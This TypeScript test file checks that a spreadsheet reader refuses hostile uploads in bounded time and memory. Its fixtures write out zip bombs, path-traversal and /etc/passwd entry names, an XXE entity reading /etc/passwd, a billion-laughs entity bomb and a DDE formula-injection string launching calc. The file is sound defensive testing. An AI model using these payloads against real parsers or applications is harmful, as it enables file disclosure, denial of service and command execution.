import { describe, expect, test } from "vitest";
import { DomainError } from "@/lib/errors";
import { sheetLimits } from "@/lib/sheets/limits";
import { readSheets } from "@/lib/sheets/read";
import type { SheetError, SheetRefusal } from "@/lib/sheets/sheet-error";
import {
  bomb,
  legacyWorkbook,
  lockedLegacyWorkbook,
  lockedWorkbook,
  lyingBomb,
  withDoctype,
  workbookEntries,
  workbookOf,
  workbookWith,
} from "../../support/files/hostile-sheets";
import { zipOf } from "../../support/files/raw-zip";
import { watchMemory } from "../../support/watch-memory";

const MiB = 1024 * 1024;
const cell = '<row r="1"><c r="A1"><v>1</v></c></row>';
const png = Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");

type Hostile = [what: string, fileName: string, make: () => Buffer, code: SheetRefusal];

const hostileFiles: Hostile[] = [
  ["S41 a bomb of 214 MB", "a.xlsx", () => bomb(214 * MiB), "INFLATES"],
  ["S41 a bomb below the size limit, by its ratio", "a.xlsx", () => bomb(30 * MiB), "INFLATES"],
  ["S42 a bomb whose headers claim 1 kB", "a.xlsx", () => lyingBomb(214 * MiB, 1_000), "UNSAFE"],
  ["S42 headers that claim more than is there", "a.xlsx", () => lyingBomb(1_000, 2_000), "UNSAFE"],
  ["S42 a name that climbs out", "a.xlsx", () => workbookWith({ name: "../../etc/cron.d/x", content: "x" }), "UNSAFE"],
  ["S42 an absolute name", "a.xlsx", () => workbookWith({ name: "/etc/passwd", content: "x" }), "UNSAFE"],
  [
    "S42 a symbolic link",
    "a.xlsx",
    () => workbookWith({ name: "xl/a", content: "/etc", attributes: 0xa1ff0000 }),
    "UNSAFE",
  ],
  ["S42 the same part twice", "a.xlsx", () => zipOf([...workbookEntries({}), ...workbookEntries({})]), "UNSAFE"],
  [
    "S42 an encrypted part",
    "a.xlsx",
    () => workbookWith({ name: "xl/styles.xml", content: "x", encrypted: true }),
    "PASSWORD",
  ],
  [
    "S42 a zip inside a workbook",
    "a.xlsx",
    () => workbookWith({ name: "xl/embeddings/a.zip", content: bomb(MiB) }),
    "NESTED",
  ],
  ["S42 a zip of workbooks", "a.xlsx", () => zipOf([{ name: "名单.xlsx", content: workbookOf({}) }]), "NESTED"],
  ["S42 10,000 sheets", "a.xlsx", () => workbookOf({ sheetCount: 10_000, sheetData: cell }), "SHEETS"],
  ["S42 10,000 sheets named over few parts", "a.xlsx", () => sheetsInNameOnly(10_000), "SHEETS"],
  [
    "S43 an external entity",
    "a.xlsx",
    () => withDoctype('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "UNSAFE",
  ],
  ["S43 a billion laughs", "a.xlsx", () => withDoctype(billionLaughs()), "UNSAFE"],
  ["S43 an entity in UTF-16", "a.xlsx", () => inUtf16(), "UNSAFE"],
  ["200 MB", "a.xlsx", () => Buffer.alloc(200 * MiB), "TOO_BIG"],
  ["an empty file", "a.xlsx", () => Buffer.alloc(0), "EMPTY"],
  ["S40 a picture named .xlsx", "a.xlsx", () => png, "NOT_A_SHEET"],
  ["S40 a picture named .csv", "a.csv", () => Buffer.concat([png, Buffer.alloc(500)]), "NOT_A_SHEET"],
  ["S40 a workbook named .png", "a.png", () => workbookOf({ sheetData: cell }), "NOT_A_SHEET"],
  [
    "S40 a web page named .xls",
    "a.xls",
    () => Buffer.from("<html><table><tr><td>1</td></tr></table></html>"),
    "WEB_PAGE",
  ],
  ["S40 a web page named .csv", "a.csv", () => Buffer.from("\ufeff\n<table><tr><td>1</td></tr></table>"), "WEB_PAGE"],
  ["S40 a text named .xls", "a.xls", () => Buffer.from("姓名\t电话\n"), "NOT_A_SHEET"],
  ["another office format", "a.xlsx", () => zipOf([{ name: "content.xml", content: "<x/>" }]), "OTHER_FORMAT"],
  [
    "a legacy file of 12 MB",
    "a.xls",
    () => Buffer.concat([lockedWorkbook(), Buffer.alloc(12 * MiB)]),
    "LEGACY_TOO_BIG",
  ],
  [
    "a million shared texts in one cell's file",
    "a.xlsx",
    () => workbookOf({ sharedTexts: "<si/>".repeat(2_000_001) }),
    "INFLATES",
  ],
  [
    "XML that never ends",
    "a.xlsx",
    () => workbookWith({ name: "xl/worksheets/sheet1.xml", content: "<row><c>".repeat(9_999) }),
    "DAMAGED",
  ],
  ["no XML at all", "a.xlsx", () => workbookWith({ name: "xl/worksheets/sheet1.xml", content: "甲,乙" }), "DAMAGED"],
  ["lines in disorder", "a.xlsx", () => workbookOf({ sheetData: cell + cell }), "DAMAGED"],
  ["quotes without end", "a.csv", () => Buffer.from('"a"b,"'.repeat(3_000_000)), "TOO_COMPLEX"],
  ["a container of another program", "a.xls", () => lockedWorkbook().subarray(0, 512), "DAMAGED"],
  ["a workbook with a password", "a.xlsx", lockedWorkbook, "PASSWORD"],
  ["a legacy workbook with a password", "a.xls", lockedLegacyWorkbook, "PASSWORD"],
  ["half an upload", "a.xlsx", () => bomb(MiB).subarray(0, 1_000), "DAMAGED"],
  ["half a legacy upload", "a.xls", () => legacyWorkbook([["甲"]]).subarray(0, 1_500), "DAMAGED"],
  ["a flipped bit", "a.xlsx", () => flipped(workbookOf({ sheetData: cell.repeat(200) })), "DAMAGED"],
  [
    "a list longer than the limit",
    "a.xlsx",
    () => workbookOf({ sheetData: `<row r="200001"><c r="A200001"><v>1</v></c></row>` }),
    "ROWS",
  ],
  [
    "one cell in the farthest corner",
    "a.xlsx",
    () => workbookOf({ sheetData: `<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>` }),
    "COLUMNS",
  ],
  ["a CSV longer than the limit", "a.csv", () => Buffer.alloc(400_002, "1\n"), "ROWS"],
  ["a CSV wider than the limit", "a.csv", () => Buffer.alloc(500, "1,"), "COLUMNS"],
  ["bytes in no encoding", "a.csv", () => Buffer.from("b1e0ff80ff", "hex"), "ENCODING"],
];

describe("is refused within seconds, in bounded memory, with words for the person", () => {
  test.each(hostileFiles)("%s", { timeout: 20_000 }, async (_what, fileName, make, code) => {
    const bytes = make();
    const memory = watchMemory();
    const start = performance.now();
    const error = await readSheets({ fileName, bytes }).catch((refusal: SheetError) => refusal);
    const { grownMiB, readerMiB } = memory.stop();
    expect(error).toBeInstanceOf(DomainError);
    expect(error).toMatchObject({ code, refusal: "CONFLICT", message: expect.stringMatching(/[。）]$/) });
    expect(performance.now() - start).toBeLessThan(10_000);
    expect(grownMiB).toBeLessThan(120);
    expect(readerMiB).toBeLessThan(400);
  });
});

test("a read that takes too long is stopped", async () => {
  const sheetData = Array.from({ length: 60_000 }, (_, i) => `<row r="${i + 1}"><c><v>1</v></c></row>`).join("");
  const read = readSheets(
    { fileName: "a.xlsx", bytes: workbookOf({ sheetData }) },
    { ...sheetLimits, milliseconds: 50 },
  );
  await expect(read).rejects.toMatchObject({ code: "TOO_COMPLEX" });
});

test("a read that takes too much memory is stopped, and the next file is read", { timeout: 20_000 }, async () => {
  const texts = Array.from({ length: 300_000 }, (_, i) => `<si><t>第${i}个不同的文字</t></si>`);
  const bytes = workbookOf({ sheetData: cell, sharedTexts: texts.join("") });
  await expect(readSheets({ fileName: "a.xlsx", bytes }, { ...sheetLimits, heapMiB: 16 })).rejects.toMatchObject({
    code: "TOO_COMPLEX",
  });
  const { sheets } = await readSheets({ fileName: "a.xlsx", bytes: workbookOf({ sheetData: cell }) });
  expect(sheets[0]?.rows).toEqual([[1]]);
});

test("a large honest file is read whole in little memory", { timeout: 20_000 }, async () => {
  const line = (n: number) =>
    `<row r="${n}">${`<c t="inlineStr"><is><t>重庆市渝北区${n}号</t></is></c>`.repeat(10)}</row>`;
  const sheetData = Array.from({ length: 100_000 }, (_, i) => line(i + 1)).join("");
  const memory = watchMemory();
  const { sheets } = await readSheets({ fileName: "a.xlsx", bytes: workbookOf({ sheetData }) });
  expect(memory.stop().readerMiB).toBeLessThan(200);
  expect(sheets[0]?.rows).toHaveLength(100_000);
  expect(sheets[0]?.rows.at(-1)?.[9]).toBe("重庆市渝北区100000号");
});

test("formulas, links to other files and macros in a file are never acted on", async () => {
  const sheetData = `<row r="1"><c r="A1"><f>HYPERLINK("http://example.invalid/"&amp;B1,"点我")</f><v>点我</v></c><c r="B1" t="str"><f>[1]Sheet1!A1</f><v>'=cmd|' /c calc'!A1</v></c></row>`;
  const { sheets } = await readSheets({ fileName: "a.xlsm", bytes: workbookOf({ sheetData }) });
  expect(sheets[0]?.rows[0]?.[1]).toBe("'=cmd|' /c calc'!A1");
});

function sheetsInNameOnly(count: number): Buffer {
  const [named] = workbookEntries({ sheetCount: count }).filter(({ name }) => name === "xl/workbook.xml");
  return workbookWith({ name: "xl/workbook.xml", content: named?.content ?? "" });
}

function billionLaughs(): string {
  const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("");
  return `<!DOCTYPE x [<!ENTITY l0 "lol">${lol}<!ENTITY x "&l9;">]>`;
}

function inUtf16(): Buffer {
  const xml = `\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY x "y">]><worksheet/>`;
  return workbookWith({ name: "xl/worksheets/sheet1.xml", content: Buffer.from(xml, "utf16le") });
}

function flipped(bytes: Buffer): Buffer {
  const at = bytes.indexOf("xl/worksheets/sheet1.xml") + 40;
  bytes.writeUInt8(bytes.readUInt8(at) ^ 4, at);
  return bytes;
}
